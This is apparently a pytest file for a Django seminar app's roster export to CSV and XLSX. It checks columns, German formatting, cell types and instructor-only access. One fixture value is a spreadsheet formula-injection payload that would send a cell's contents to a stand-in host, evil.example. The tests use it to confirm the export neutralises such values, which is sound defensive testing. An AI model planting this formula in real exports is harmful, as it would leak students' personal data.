"""The roster as CSV and XLSX (seminars:roster_export), read back with Python's csv and with openpyxl;
tests/seminars/test_roster_export_libreoffice.py opens the same files with LibreOffice."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from papers.models import Allotment
from schedule.models import BlockDay, Slot
from seminars import people
from seminars.models import Membership
from tests.factories import SeminarFactory, instructor_of, student_of, supervisor_of
from tests.papers.helpers import PaperFactory

pytestmark = pytest.mark.django_db
FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A2,"Mia")'
TALK = datetime(2027, 1, 20, 8, 0, tzinfo=UTC)  # 09:00 in Berlin


@pytest.fixture
def world():
    """A student with a formula for a name, a leading-zero number, a paper, a supervisor and a talk; one
    without anything; one who withdrew."""
    seminar = SeminarFactory(title="Kernels", slug="kernels", capacity=10)
    instructor = instructor_of(seminar, user__full_name="Ida Instructor")
    supervisor = supervisor_of(seminar, user__full_name="Sue Supervisor")
    mia = student_of(
        seminar,
        user__full_name="Mia Muster",
        user__family_name=FORMULA_NAME,
        user__given_name="Mia",
        user__email="mia@uni.example",
        user__matriculation_number="03612345",
    )
    student_of(seminar, user__full_name="Ludwig van Beethoven", user__email="lvb@uni.example")
    gone = student_of(seminar, user__full_name="Zoe Gone", user__email="zoe@uni.example")
    paper = PaperFactory(seminar=seminar, title="Deep nets", supervisor=supervisor)
    Allotment.objects.create(seminar=seminar, student=mia, paper=paper, source="manual")
    day = BlockDay.objects.create(seminar=seminar, starts_at=TALK, ends_at=TALK + timedelta(hours=8))
    Slot.objects.create(
        seminar=seminar,
        day=day,
        starts_at=TALK,
        ends_at=TALK + timedelta(minutes=45),
        room="MI HS 1",
        presenter=mia,
    )
    people.student_withdraw(
        membership=Membership.objects.get(seminar=seminar, user=gone),
        by=instructor,
        now=datetime(2027, 1, 5, 11, 30, tzinfo=UTC),
    )
    return {"seminar": seminar, "instructor": instructor}


def export_url(seminar, file_format: str) -> str:
    return reverse("seminars:roster_export", kwargs={"slug": seminar.slug}) + f"?file_format={file_format}"


def download(client, world, file_format: str, language: str = "en") -> bytes:
    client.force_login(world["instructor"])
    with translation.override(language):
        response = client.get(export_url(world["seminar"], file_format), HTTP_ACCEPT_LANGUAGE=language)
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_csv_has_every_student_with_paper_supervisor_and_talk_and_the_withdrawn_last(client, world):
    data = download(client, world, "csv")

    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == [
        "Name",
        "Family name",
        "Given name",
        "E-mail",
        "Matriculation number",
        "Paper",
        "Supervisor",
        "Talk starts (Europe/Berlin)",
        "Talk ends (Europe/Berlin)",
        "Room",
        "Withdrawn on (Europe/Berlin)",
        "Status",
    ]
    assert rows[1:] == [
        [
            "Ludwig van Beethoven",
            "van Beethoven",
            "Ludwig",
            "lvb@uni.example",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "enrolled",
        ],
        [
            "Mia Muster",
            "'" + FORMULA_NAME,
            "Mia",
            "mia@uni.example",
            "03612345",
            "Deep nets",
            "Sue Supervisor",
            "2027-01-20 09:00",
            "2027-01-20 09:45",
            "MI HS 1",
            "",
            "enrolled",
        ],
        [
            "Zoe Gone",
            "Gone",
            "Zoe",
            "zoe@uni.example",
            "",
            "",
            "",
            "",
            "",
            "",
            "2027-01-05 12:30",
            "withdrawn",
        ],
    ]


def test_csv_in_german_has_semicolons_and_german_dates(client, world):
    data = download(client, world, "csv", language="de")

    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "Name"
    assert rows[0][-1] == "Status"
    mia = next(row for row in rows if row[3] == "mia@uni.example")
    assert mia[7:9] == ["20.01.2027 09:00", "20.01.2027 09:45"]
    zoe = next(row for row in rows if row[3] == "zoe@uni.example")
    assert zoe[10] == "05.01.2027 12:30"
    assert zoe[11] == "abgemeldet"


def test_xlsx_has_text_cells_for_numbers_and_names_and_time_cells_for_the_talk(client, world):
    data = download(client, world, "xlsx")

    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(min_row=2))
    mia = next(row for row in rows if row[3].value == "mia@uni.example")
    assert mia[4].value == "03612345"
    assert mia[4].data_type == "s"
    assert mia[4].number_format == "@"
    assert mia[1].value == FORMULA_NAME
    assert mia[1].data_type == "s"
    assert mia[7].value == datetime(2027, 1, 20, 9, 0)
    assert mia[8].value == datetime(2027, 1, 20, 9, 45)
    assert [row[11].value for row in rows] == ["enrolled", "enrolled", "withdrawn"]
    assert rows[2][10].value == datetime(2027, 1, 5, 12, 30)


def test_export_without_a_format_goes_back_to_the_roster_with_a_message(client, world):
    client.force_login(world["instructor"])

    response = client.get(reverse("seminars:roster_export", kwargs={"slug": "kernels"}), follow=True)

    assert response.redirect_chain[-1][0] == reverse("seminars:roster", kwargs={"slug": "kernels"})
    assert "Please choose CSV or XLSX." in response.content.decode()


def test_export_is_for_instructors_only(client, world):
    seminar = world["seminar"]
    client.force_login(Membership.objects.get(seminar=seminar, user__full_name="Sue Supervisor").user)

    assert client.get(export_url(seminar, "csv")).status_code == 403
